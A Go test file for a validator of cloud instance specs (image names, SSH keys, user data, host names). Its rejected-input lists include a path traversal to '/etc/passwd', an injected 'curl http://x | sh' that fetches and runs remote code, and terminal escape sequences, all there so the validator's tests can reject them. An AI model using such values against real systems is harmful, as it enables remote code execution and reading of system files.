package instancespec_test

import (
	"strings"
	"testing"

	"github.com/bettercompute/bettercompute/proto/instancespec"
)

func TestCheckImage(t *testing.T) {
	t.Parallel()
	for _, ok := range []string{"ubuntu-24.04", "ubuntu-24.04.qcow2", "debian_12", "a", strings.Repeat("u", instancespec.MaxImageBytes)} {
		if err := instancespec.CheckImage(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []string{"", "../../../etc/passwd", "/etc/passwd", "ubuntu; curl http://x | sh", ".hidden", "-flag",
		"a/b", "a b", "ubuntu\x00", "ubuntu\n", strings.Repeat("u", instancespec.MaxImageBytes+1), "ubuntü"} {
		if err := instancespec.CheckImage(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func TestCheckSSHKey(t *testing.T) {
	t.Parallel()
	for _, ok := range []string{"ssh-ed25519 AAAAC3Nz", "ssh-ed25519 AAAAC3Nz me@host", "ecdsa-sha2-nistp256 AAAAE2 a b c", "sk-ssh-ed25519@openssh.com AAAA ünï"} {
		if err := instancespec.CheckSSHKey(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []string{"", "ssh-ed25519", "ssh-ed25519 ", "rsa AAAA", "ssh-ed25519\tAAAA", "ssh-ed25519 AAAA\n", "ssh-ed25519 AAAA\r",
		"ssh-ed25519 AAAA \x1b[2J", "ssh-ed25519 AAAA \x00", "ssh-ed25519 AAAA \u009b", "ssh-ed25519 AAAA \xff",
		"ssh-ed25519 " + strings.Repeat("A", instancespec.MaxSSHKeyBytes)} {
		if err := instancespec.CheckSSHKey(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
	if err := instancespec.CheckSSHKeys(make([]string, instancespec.MaxSSHKeys+1)); err == nil {
		t.Error("too many keys accepted")
	}
}

func TestCheckText(t *testing.T) {
	t.Parallel()
	if err := instancespec.CheckUserData("#cloud-config\n\tpackages: [htop]\r\n"); err != nil {
		t.Error(err)
	}
	for _, bad := range []string{"a\x00b", "\xff", strings.Repeat("x", instancespec.MaxUserDataBytes+1)} {
		if err := instancespec.CheckUserData(bad); err == nil {
			t.Errorf("user data %.20q accepted", bad)
		}
	}
	if err := instancespec.CheckNetworkConfig(strings.Repeat("x", instancespec.MaxNetworkConfigBytes+1)); err == nil {
		t.Error("an oversized network-config accepted")
	}
	if err := instancespec.CheckHostname("web-1"); err != nil {
		t.Error(err)
	}
	if err := instancespec.CheckHostname("-web"); err == nil {
		t.Error("a bad host name accepted")
	}
}
